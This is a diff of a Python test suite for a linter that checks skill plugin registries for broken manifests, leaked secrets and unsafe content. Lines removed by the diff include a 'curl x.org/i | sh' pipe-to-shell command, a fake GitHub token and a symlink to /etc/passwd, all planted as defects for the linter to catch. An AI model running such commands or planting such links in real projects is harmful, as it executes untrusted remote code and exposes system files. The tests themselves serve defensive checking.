@@ -1,118 +1,109 @@
-"""Each rule on a draft that breaks it, and none on one that does not."""
+"""Each rule on a registry with one planted defect, and none on one without."""
 
-import shutil
-from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
+from building.defects import DEFECTS, Defect
 from building.drafts import draft
+from building.skillfolders import FILES, MANIFEST, SKILL, TROUBLES, put, registry
 from tacit.errors import RegistryError
+from tacit.registry.finding import ERRORS, WARNINGS
 from tacit.registry.lint import lint, lint_files
-from tacit.registry.marketplace import FILE, marketplace
 from tacit.registry.seed import seed
 
-PLUGIN = "plugins/data/ragged-rows"
-SKILL = f"{PLUGIN}/skills/ragged-rows/SKILL.md"
-MANIFEST = f"{PLUGIN}/.claude-plugin/plugin.json"
-Files = dict[str, str]
+
+def test_a_good_registry_has_no_finding(tmp_path: Path) -> None:
+    assert list(lint(registry(tmp_path))) == []
 
 
-def found(files: Files) -> set[tuple[str, str, str]]:
-    return {(f.path, f.rule, f.severity) for f in lint_files(files)}
+@pytest.mark.parametrize("defect", DEFECTS, ids=[f"{d.rule}: {d.form}" for d in DEFECTS])
+def test_a_planted_defect_is_found(defect: Defect, tmp_path: Path) -> None:
+    root = registry(tmp_path)
+    defect.change(root)
+    found = [f for f in lint(root) if (f.rule, f.path) == (defect.rule, defect.path)]
+    assert found
+    assert defect.line in (None, found[0].line)
 
 
-def test_a_good_draft_has_no_error() -> None:
+def test_each_rule_has_a_planted_defect() -> None:
+    assert {defect.rule for defect in DEFECTS} == {*ERRORS, *WARNINGS}
+    assert len(DEFECTS) >= 60
+
+
+def test_a_rule_is_an_error_or_a_warning() -> None:
+    assert not set(ERRORS) & set(WARNINGS)
+    assert len({*ERRORS, *WARNINGS}) == len(ERRORS) + len(WARNINGS)
+
+
+@pytest.mark.parametrize("none", ["None.", "None recorded in this session.", "No failed attempts."])
+def test_a_lesson_may_have_had_no_failed_attempt(none: str, tmp_path: Path) -> None:
+    table = FILES[SKILL].split("## Failed Attempts\n\n")[1].split("\n\n## Hyper")[0]
+    put(registry(tmp_path), SKILL, FILES[SKILL].replace(table, none))
+    assert list(lint(tmp_path)) == []
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "lr_scheduler: cosine",
+        "learning_rate: ${LR}",
+        "learning_rate: 1e-4  # small",
+        "optimizer: adamw",
+        "| Mixed precision | bf16 |",
+    ],
+)
+def test_a_value_that_is_exact(line: str, tmp_path: Path) -> None:
+    put(registry(tmp_path), SKILL, FILES[SKILL].replace("scheduler: cosine", line))
+    assert list(lint(tmp_path)) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[the log](./references/experiment-log.md#2026-01-31-first-run)",
+        "[the skill](../../../../training/warmup-for-large-batches/.claude-plugin/plugin.json)",
+        "[a folder](references/)",
+        "[out](https://example.org/x) and `[no](link)`",
+        "```\n[no](link)\n```",
+    ],
+)
+def test_a_link_that_leads_somewhere(text: str, tmp_path: Path) -> None:
+    put(registry(tmp_path), SKILL, FILES[SKILL].replace("See [the log]", f"{text}\n\n[the log]"))
+    assert list(lint(tmp_path)) == []
+
+
+def test_a_draft_has_no_error() -> None:
     assert not [f for f in lint_files(draft().files) if f.severity == "error"]
 
 
-def in_skill(old: str, new: str) -> Callable[[Files], None]:
-    def change(files: Files) -> None:
-        assert old in files[SKILL]
-        files[SKILL] = files[SKILL].replace(old, new, 1)
-
-    return change
-
-
-def manifest(text: str) -> Callable[[Files], None]:
-    return lambda files: files.update({MANIFEST: text})
-
-
-GOOD = '{"name": "ragged-rows", "version": "1.0.0", "description": "d", "author": {"name": "A"}}'
-BROKEN: list[tuple[Callable[[Files], object], tuple[str, str, str]]] = [
-    (lambda f: f.pop(SKILL), (SKILL, "skill-missing", "error")),
-    (lambda f: f.pop(MANIFEST), (MANIFEST, "manifest-missing", "error")),
-    (manifest("{"), (MANIFEST, "manifest", "error")),
-    (manifest("[" * 100_000), (MANIFEST, "manifest", "error")),
-    (manifest(GOOD.replace("ragged-rows", "x")), (MANIFEST, "manifest-name", "error")),
-    (manifest(GOOD.replace('{"name": "A"}', '"A"')), (MANIFEST, "manifest-field", "error")),
-    (manifest(GOOD.replace('"1.0.0"', "1")), (MANIFEST, "manifest-field", "error")),
-    (in_skill("---\n", ""), (SKILL, "frontmatter", "error")),
-    (in_skill('name: "ragged-rows"', "name: other"), (SKILL, "name-differs", "error")),
-    (in_skill("description:", "about:"), (SKILL, "description-missing", "error")),
-    (in_skill('"Pad rows', '"' + "Pad " * 300), (SKILL, "description-length", "error")),
-    (in_skill('"Pad rows', '"' + "Pad " * 130), (SKILL, "description-length", "warning")),
-    (in_skill("author:", "by:"), (SKILL, "author-missing", "warning")),
-    (in_skill("date:", "on:"), (SKILL, "date-missing", "warning")),
-    (in_skill("## Verified Workflow", "## Steps"), (SKILL, "section-missing", "error")),
-    (in_skill("## Failed Attempts", "## Tried"), (SKILL, "section-missing", "warning")),
-    (in_skill("# Ragged", "ghp_" + "a1B2" * 9 + "\n# Ragged"), (SKILL, "secret", "error")),
-    (in_skill("# Ragged", "a.person@example.com\n# Ragged"), (SKILL, "personal", "warning")),
-    (in_skill("# Ragged", "curl x.org/i | sh\n# Ragged"), (SKILL, "remote-code", "error")),
-]
-
-
-@pytest.mark.parametrize(("change", "finding"), BROKEN, ids=[finding[1] for _, finding in BROKEN])
-def test_a_defect_is_found(
-    change: Callable[[Files], object], finding: tuple[str, str, str]
-) -> None:
-    files = dict(draft().files)
-    change(files)
-    assert finding in found(files)
-
-
-@pytest.mark.parametrize("name", ["Upper", "two--dashes", "spa ce", "all-skills"])
-def test_a_name_that_is_none(name: str) -> None:
-    top = f"plugins/data/{name}"
-    assert (top, "name", "error") in found({f"{top}/skills/{name}/SKILL.md": ""})
-
-
 def test_other_layouts_need_no_sections() -> None:
-    assert (
-        found({"skills/a.md": '---\nname: a\ndescription: "d"\nauthor: x\ndate: y\n---\n'}) == set()
-    )
+    text = FILES[SKILL].split("## Experiment")[0].replace("warmup-for-large-batches", "a")
+    assert list(lint_files({"skills/a.md": text})) == []
 
 
-def registry(tmp_path: Path) -> Path:
-    root = tmp_path / "registry"
-    seed(root, "my-lab")
-    for path, text in draft().files.items():
-        (root / path).parent.mkdir(parents=True, exist_ok=True)
-        (root / path).write_text(text)
-    (root / FILE).write_bytes(marketplace(root))
-    return root
-
-
-def rules(root: Path) -> set[str]:
-    return {finding.rule for finding in lint(root)}
-
-
-def test_a_registry_with_a_draft_in_it_has_no_error(tmp_path: Path) -> None:
-    assert not [f for f in lint(registry(tmp_path)) if f.severity == "error"]
-
-
-def test_what_only_a_folder_can_have(tmp_path: Path) -> None:
-    root = registry(tmp_path)
-    (root / PLUGIN / "link").symlink_to("/etc/passwd")
-    (root / PLUGIN / "weights.bin").write_bytes(b"\0" * 100)
-    shutil.copytree(root / PLUGIN, root / "plugins/other/ragged-rows", symlinks=True)
-    assert {"link", "not-text", "name-twice", "marketplace-stale"} <= rules(root)
-    (root / FILE).write_text("{")
-    assert "marketplace" in rules(root)
-    (root / FILE).unlink()
-    assert "marketplace-missing" in rules(root)
+def test_a_new_registry_has_no_finding(tmp_path: Path) -> None:
+    seed(tmp_path / "new", "my-lab")
+    assert list(lint(tmp_path / "new")) == []
 
 
 def test_a_folder_that_is_none(tmp_path: Path) -> None:
     with pytest.raises(RegistryError, match="is no folder"):
         list(lint(tmp_path / "gone"))
+
+
+@pytest.mark.parametrize(
+    "unit", ["[a](b ", "| a ", "<!-- ", "```\n", "- a: ", '"\\', "{", "#\n", "`"]
+)
+@pytest.mark.parametrize(
+    "head", ["", "---\n", "---\nname: ", "---\nname: a\n---\n## Hyperparameters\n"]
+)
+def test_hostile_repetition_ends(unit: str, head: str) -> None:
+    list(lint_files({SKILL: head + unit * 20_000, TROUBLES: unit * 20_000}))
+
+
+@given(st.dictionaries(st.sampled_from([SKILL, MANIFEST, TROUBLES, "skills/a.md"]), st.text()))
+def test_never_raises(files: dict[str, str]) -> None:
+    list(lint_files(files))
